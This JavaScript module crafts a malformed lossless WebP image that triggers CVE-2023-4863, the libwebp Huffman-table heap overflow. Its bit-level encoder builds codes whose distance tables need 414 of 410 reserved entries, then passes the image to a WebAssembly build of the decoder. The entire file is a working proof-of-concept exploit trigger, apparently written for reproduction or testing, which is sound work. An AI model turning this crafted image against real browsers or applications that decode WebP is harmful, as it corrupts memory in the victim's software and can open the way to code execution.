// CVE-2023-4863: libwebp reserves room for the largest tables that complete Huffman codes need, and writes the tables of a
// code before it finds that it is none. Four codes that fill their room, and one for distances that needs 414 of 410 entries.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

const FOLDER = '@jsquash/webp/codec/dec/';
/** For each code: how many symbols have codes of 0, 1, ... 15 bits. */
const BYTES = [0, 1, 1, 0, 0, 0, 0, 0, 0, 7, 241, 1, 1, 1, 1, 2];
const CODES = [
  [0, 1, 1, 0, 0, 0, 0, 0, 0, 3, 229, 41, 1, 1, 1, 2], // green and lengths: 280 symbols
  BYTES, // red
  BYTES, // blue
  BYTES, // alpha
  [0, 1, 1, 1, 1, 1, 0, 0, 0, 11, 5, 1, 10, 4, 2, 2], // distances: 40 symbols
];
/** In which order the lengths of the codes of lengths are told. */
const LENGTH_ORDER = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];

function picture() {
  const bits = [];
  const put = (value, count) => {
    for (let i = 0; i < count; i++) bits.push((value >> i) & 1);
  };
  put(0x2f, 8); // VP8L
  put(0, 14 + 14 + 1 + 3); // one pixel, no alpha, version 0
  put(0, 3); // no transform, no cache of colours, one group of codes
  for (const counts of CODES) {
    put(0, 1); // a code that is not simple, with the lengths of its code of lengths: four bits for 0 to 15 each
    put(LENGTH_ORDER.length - 4, 4);
    for (const length of LENGTH_ORDER) put(length < 16 ? 4 : 0, 3);
    put(0, 1); // lengths of all symbols follow
    counts.forEach((count, length) => {
      for (let i = 0; i < count; i++) for (let bit = 3; bit >= 0; bit--) put(length >> bit, 1);
    });
  }
  const data = Buffer.alloc(Math.ceil(bits.length / 16) * 2 + 16);
  bits.forEach((bit, i) => {
    data[i >> 3] |= bit << (i & 7);
  });
  const header = Buffer.from('RIFF....WEBPVP8L....');
  header.writeUInt32LE(data.length + 12, 4);
  header.writeUInt32LE(data.length, 16);
  return Buffer.concat([header, data]);
}

export async function load() {
  const { default: factory } = await import(`${FOLDER}webp_dec.js`);
  const bytes = readFileSync(createRequire(import.meta.url).resolve(`${FOLDER}webp_dec.wasm`));
  const { decode } = await factory({
    noInitialRun: true,
    instantiateWasm: (imports, done) => {
      const instance = new WebAssembly.Instance(new WebAssembly.Module(bytes), imports);
      done(instance);
      return instance.exports;
    },
  });
  return () => {
    const file = picture();
    return decode(file.buffer.slice(file.byteOffset, file.byteOffset + file.length));
  };
}
